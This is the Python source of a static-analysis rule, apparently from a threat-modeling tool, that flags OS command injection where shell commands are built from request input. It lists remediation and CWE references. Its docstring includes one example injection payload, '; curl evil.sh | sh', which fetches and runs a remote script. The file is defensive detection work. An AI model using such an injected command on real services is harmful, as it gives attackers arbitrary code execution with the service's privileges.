"""Shell command built from request input (OS command injection).

What it flags:
    A command run through a shell where the command text comes from the request or could
    not be shown to be a constant: `os.system`, `os.popen`, `subprocess.*` with
    `shell=True` or a command string in Python; `child_process.exec`/`execSync` or `spawn`
    with `shell: true` in JavaScript and TypeScript.

Why it matters:
    The shell interprets `;`, `&&`, `|`, `$(...)` and backticks. A client who controls part
    of the command string appends a command of their own (`; curl evil.sh | sh`) and runs
    it with the service's privileges: files, credentials and the network the host can
    reach are theirs.

Evidence used:
    `command-exec` facts on endpoints (handler code) and services (module-level code). A
    command seen to contain request data (`from_input` yes) keeps the rule's confidence; a
    command whose origin is unknown lowers it.

Does not fire when:
    The command is a literal or a constant (`from_input` no); the program is run without a
    shell with an argument list (`subprocess.run(["convert", path])`, `execFile`,
    `spawn(cmd, args)`), which the extractors do not report.

Known false positives:
    Values quoted with `shlex.quote` or validated against a strict pattern before use are
    still reported when the flow is not understood; commands built from trusted
    configuration whose origin cannot be traced are reported with lower confidence.

Remediation:
    Run the program without a shell and pass arguments as a list (`subprocess.run([...])`,
    `execFile`/`spawn` without `shell`), validate each argument against an allow-list, and
    put `--` before user-supplied file names; prefer a library over shelling out.

References:
    CWE-78 Improper Neutralization of Special Elements used in an OS Command ('OS Command
    Injection'); CAPEC-88 OS Command Injection; OWASP Top 10 A03:2021 Injection.
"""

from __future__ import annotations

from collections.abc import Iterator

from threatdelta.findings.threat import Confidence, Fix, Stride
from threatdelta.model.base import ElementKind, Tri
from threatdelta.model.facts import FactKind
from threatdelta.model.threat_model import ThreatModel
from threatdelta.rules.predicates import (
    confidence_for_input,
    describe,
    evidence_of,
    facts_in_model,
    may_come_from_input,
)
from threatdelta.rules.spec import FixAvailability, Match, RuleSpec

SPEC = RuleSpec(
    id="TD-E005",
    name="command-built-from-input",
    title="Shell command built from request input",
    stride=(Stride.ELEVATION_OF_PRIVILEGE, Stride.TAMPERING),
    cwe=(78,),
    capec=(88,),
    cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    confidence=Confidence.HIGH,
    applies_to=(ElementKind.ENDPOINT, ElementKind.SERVICE),
    fix=FixAvailability.DISPLAY_ONLY,
)


def check(model: ThreatModel) -> Iterator[Match]:
    for element, fact in facts_in_model(model, FactKind.COMMAND_EXEC):
        if not may_come_from_input(fact):
            continue
        origin = "request input" if fact.from_input is Tri.YES else "a value of unknown origin"
        yield Match(
            element=element.key,
            evidence=evidence_of(element, fact),
            qualifier=fact.name,
            message=f"{describe(element)} runs a shell command built from {origin} with "
            f"`{fact.name}` at {fact.location}.",
            attack_vector="A client puts shell metacharacters (`;`, `&&`, `$(...)`) in the "
            "value and appends a command of their own.",
            impact="Arbitrary commands on the host with the service's privileges: data, "
            "credentials and the internal network are exposed.",
            confidence=confidence_for_input(fact, SPEC.confidence),
            fix=Fix(
                summary="Run the program without a shell, passing arguments as a list, and "
                "validate each argument against an allow-list."
            ),
        )
